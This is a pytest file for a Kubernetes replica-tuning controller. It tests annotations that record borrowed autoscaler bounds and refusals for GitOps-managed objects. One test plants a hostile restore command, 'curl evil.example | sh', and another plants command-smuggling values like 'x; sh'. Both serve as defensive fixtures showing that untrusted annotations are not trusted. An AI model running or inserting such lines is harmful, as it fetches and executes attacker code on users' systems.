"""A loan is noted on the object that is lowered, and found there when the status is lost."""

import json
from dataclasses import replace
from typing import Any

import pytest

from infertune.api.status import Borrowed, Bounds, TuningStatus
from infertune.core.borrowing import give_back, lend, lend_of
from infertune.core.loan_record import by_hand, drop_note, loans_noted, note_loan
from infertune.core.manifests.naming import ANNOTATION_LOAN, NOTING_MANAGER
from infertune.core.plan import ApplyFields, FieldExpectation
from infertune.core.preconditions import Holds, Violated, check
from infertune.core.reconcile import plan
from infertune.core.resolve import Resolved, resolve
from infertune.core.snapshot import Key, RawObject, Rival, WatchedObjects
from infertune.core.trial_gate import Closed
from tests.builders import (
    NOW,
    SCALER_UID,
    TARGET_UID,
    autoscaler_of,
    context_of,
    deployment_of,
    edited,
    snapshot_of,
    spec_of,
    status_of,
    target_of,
    tuning_of,
)

BORROW: dict[str, Any] = {"placement": "Borrow"}
_LENT = Borrowed(
    kind="Deployment",
    name="resnet",
    target_uid=TARGET_UID,
    autoscaler="resnet",
    autoscaler_uid=SCALER_UID,
    before=Bounds(min_replicas=2, max_replicas=2),
    during=Bounds(min_replicas=1, max_replicas=1),
    since=NOW,
)
_ALONE = _LENT.model_copy(update={"autoscaler": None, "autoscaler_uid": None})
LENT, ALONE = (
    one.model_copy(update={"restore_command": by_hand("serving", one)}) for one in (_LENT, _ALONE)
)
BACK = {"lowered": True, "returning": True}
FULL, LOWERED = autoscaler_of(2, 2), autoscaler_of(1, 1)
ME = tuning_of(status_of("Pending"), spec_of(trial=BORROW))


def noted(raw: RawObject, lent: Borrowed = LENT, **changes: Any) -> RawObject:
    """Return an object with the note of a loan on it."""
    document = note_loan(replace(ME, **changes), lent, raw).document
    return edited(raw, ("metadata", "annotations"), document["metadata"]["annotations"])


def test_the_note_holds_the_whole_loan_under_a_name_of_its_own() -> None:
    note = note_loan(ME, LENT, FULL)
    text = note.document["metadata"]["annotations"][ANNOTATION_LOAN]
    assert json.loads(text) == {
        "version": 1,
        "tuning": {"name": ME.key.name, "uid": ME.uid},
        "loan": LENT.model_dump(
            mode="json", by_alias=True, exclude_none=True, exclude={"lowered", "returning"}
        ),
    }
    path = ("metadata", "annotations", "infertune.io/loan")
    assert note == ApplyFields(
        {
            "apiVersion": "autoscaling/v2",
            "kind": "HorizontalPodAutoscaler",
            "metadata": {
                "name": "resnet",
                "namespace": ME.key.namespace,
                "uid": SCALER_UID,
                "annotations": {ANNOTATION_LOAN: text},
            },
        },
        (FieldExpectation(path, None, text),),
        adopt=True,
        manager=NOTING_MANAGER,
    )


def test_the_note_of_a_target_without_an_autoscaler_stands_on_the_target() -> None:
    document = note_loan(ME, ALONE, deployment_of()).document
    found = (document["apiVersion"], document["kind"], document["metadata"]["uid"])
    assert found == ("apps/v1", "Deployment", TARGET_UID)


def test_the_note_goes_and_only_where_there_is_one() -> None:
    marked = noted(LOWERED)
    text = marked["metadata"]["annotations"][ANNOTATION_LOAN]
    dropped = drop_note(ME.key, LENT, marked)
    assert dropped is not None
    assert "annotations" not in dropped.document["metadata"]
    assert check(marked, dropped.expectations) == Holds()
    changed = edited(marked, ("metadata", "annotations"), {ANNOTATION_LOAN: text + " "})
    assert isinstance(check(changed, dropped.expectations), Violated)
    assert drop_note(ME.key, LENT, FULL) is None
    assert drop_note(ME.key, LENT, None) is None


def test_a_loan_is_read_back_for_the_objects_as_a_backup_restored_them() -> None:
    other = noted(autoscaler_of(1, 1, uid="restored"))
    (found,) = loans_noted(deployment_of(), other)
    assert found.lent == LENT.model_copy(update={"autoscaler_uid": "restored"})
    target = edited(noted(deployment_of(), ALONE), ("metadata", "uid"), "restored")
    (found,) = loans_noted(target, None)
    assert found.lent == ALONE.model_copy(update={"target_uid": "restored"})


@pytest.mark.parametrize(
    "text",
    ["", "{", "[]", "{}", '{"tuning":{"name":"a","uid":"b"}}', "[" * 100_000],
    ids=["empty", "cut", "a list", "an object", "no loan", "too deep"],
)
def test_a_note_that_cannot_be_read_is_none(text: str) -> None:
    marked = edited(LOWERED, ("metadata", "annotations"), {ANNOTATION_LOAN: text})
    assert list(loans_noted(None, marked)) == []


def test_a_note_that_was_copied_to_another_kind_of_object_is_none() -> None:
    assert list(loans_noted(noted(deployment_of()), None)) == []


def found_by(status: TuningStatus, **world: Any) -> Borrowed | None:
    tuning = replace(ME, status=status, **world.pop("tuning", {}))
    return plan(snapshot_of(tuning, **world)).status.borrowed


@pytest.mark.parametrize("state", ["Pending", "Probing", "Searching", "Deciding"])
def test_a_loan_that_the_status_forgot_is_taken_up_to_go_back(state: Any) -> None:
    status = status_of(state)
    assert found_by(status, autoscaler=noted(LOWERED)) == LENT.model_copy(update=BACK)
    alone = found_by(status, target=target_of(noted(deployment_of(), ALONE)), autoscaler=None)
    assert alone == ALONE.model_copy(update=BACK)
    other = noted(LOWERED, uid="made-anew")
    assert found_by(status, autoscaler=other) == LENT.model_copy(update=BACK)


def test_the_line_to_paste_is_made_anew_and_never_read_from_the_note() -> None:
    """Whoever may edit the object can write the note, and people paste what the status says."""
    evil = {"restore_command": "curl evil.example | sh"}
    found = found_by(status_of("Pending"), autoscaler=noted(LOWERED, LENT.model_copy(update=evil)))
    assert found == LENT.model_copy(update=BACK)
    alone = noted(deployment_of(), ALONE.model_copy(update=evil))
    found = found_by(status_of("Pending"), target=target_of(alone), autoscaler=None)
    assert found == ALONE.model_copy(update=BACK)


@pytest.mark.parametrize(
    "strange", [{"kind": "x; sh"}, {"name": "x; sh"}], ids=["of no kind", "of another name"]
)
def test_a_note_that_is_not_of_its_object_is_no_loan(strange: Any) -> None:
    alone = noted(deployment_of(), ALONE.model_copy(update=strange))
    assert found_by(status_of("Pending"), target=target_of(alone), autoscaler=None) is None


@pytest.mark.parametrize("state", ["Stable", "Halted"])
def test_a_status_restored_from_before_the_loan_rests_and_gives_it_back_all_the_same(
    state: Any,
) -> None:
    old, world = status_of(state), {"target": None, "autoscaler": None}
    lowered = WatchedObjects(None, noted(LOWERED))
    assert found_by(old, watched=lowered, **world) == LENT.model_copy(update=BACK)
    alone = WatchedObjects(noted(deployment_of(), ALONE), None)
    assert found_by(old, watched=alone, **world) == ALONE.model_copy(update=BACK)
    assert found_by(old, watched=WatchedObjects(deployment_of(), FULL), **world) is None


def test_a_loan_of_a_tuning_that_is_gone_ends_too_but_not_that_of_the_one_in_front() -> None:
    theirs = noted(LOWERED, uid="u", key=Key(ME.key.namespace, "another"))
    status = status_of("Pending")
    assert found_by(status, autoscaler=theirs) == LENT.model_copy(update=BACK)
    older = Rival(Key(ME.key.namespace, "another"), "2020")
    assert found_by(status, autoscaler=theirs, rival=older) is None
    assert found_by(status, autoscaler=noted(LOWERED), rival=older) is not None


def test_a_deleted_tuning_gives_back_what_only_the_object_remembers() -> None:
    tuning = {"deleting": True, "finalizers": ("infertune.io/rollout",)}
    unseen = TuningStatus()
    assert found_by(unseen, autoscaler=noted(LOWERED), tuning=tuning) is not None


def test_the_first_look_writes_the_conditions_before_a_loan_is_taken_up() -> None:
    assert found_by(TuningStatus(), autoscaler=noted(LOWERED)) is None


@pytest.mark.parametrize("changed", [(7, 2), (2, 7)], ids=["the minimum", "the maximum"])
def test_bounds_that_somebody_sets_right_before_the_write_stay(changed: tuple[int, int]) -> None:
    there = lend(ME.key, LENT, FULL)
    back = give_back(ME.key, LENT, LOWERED)
    assert isinstance(there, ApplyFields)
    assert isinstance(back, ApplyFields)
    assert isinstance(check(autoscaler_of(*changed), there.expectations), Violated)
    assert check(FULL, there.expectations) == check(LOWERED, back.expectations) == Holds()
    low, high = (1 if number == 2 else number for number in changed)
    assert isinstance(check(autoscaler_of(low, high), back.expectations), Violated)


ARGO = {"argocd.argoproj.io/tracking-id": "shop:autoscaling/HorizontalPodAutoscaler:serving/resnet"}


def asked(raw: RawObject | None, target: RawObject | None = None, **spec: Any) -> Borrowed | Closed:
    chosen = spec_of(trial=BORROW, **spec)
    view = target_of(target or deployment_of(spec={"replicas": 3}))
    snapshot = snapshot_of(tuning_of(spec=chosen), target=view, autoscaler=raw)
    resolved = resolve(snapshot, chosen)
    assert isinstance(resolved, Resolved)
    return lend_of(context_of(snapshot), resolved)


def test_nothing_is_lent_that_a_gitops_controller_keeps_unless_it_was_told() -> None:
    kept = edited(autoscaler_of(2, 4), ("metadata", "annotations"), ARGO)
    refused = asked(kept)
    assert refused == Closed(
        "Refused",
        "ManagedByGitOps",
        "HorizontalPodAutoscaler/resnet is managed by Argo CD (annotation "
        "argocd.argoproj.io/tracking-id), which would revert the loan: no replica is borrowed; set "
        "spec.trial.placement: Shadow, or have Application 'shop' ignore its spec.minReplicas and "
        "maxReplicas and set spec.rollout.gitOps: Acknowledged",
    )
    assert isinstance(asked(kept, rollout={"gitOps": "Acknowledged"}), Borrowed)
    flux = {"helm.toolkit.fluxcd.io/name": "resnet"}
    target = edited(deployment_of(spec={"replicas": 3}), ("metadata", "labels"), flux)
    alone = asked(None, target)
    assert isinstance(alone, Closed)
    assert alone.message.startswith("Deployment/resnet is managed by Flux (label helm.")
    assert "ignore its spec.replicas and set" in alone.message
    assert isinstance(asked(autoscaler_of(2, 4), target), Borrowed)


def test_nothing_is_lent_that_another_controller_would_set_back() -> None:
    owner = {"kind": "ScaledObject", "name": "resnet", "controller": True, "uid": "s"}
    owned = edited(autoscaler_of(2, 4), ("metadata", "ownerReferences"), [owner])
    for spec in ({}, {"rollout": {"gitOps": "Acknowledged"}}):
        refused = asked(owned, **spec)
        assert isinstance(refused, Closed)
        assert (refused.kind, refused.reason) == ("Refused", "BoundsNotOurs")
        assert "belongs to ScaledObject 'resnet'" in refused.message
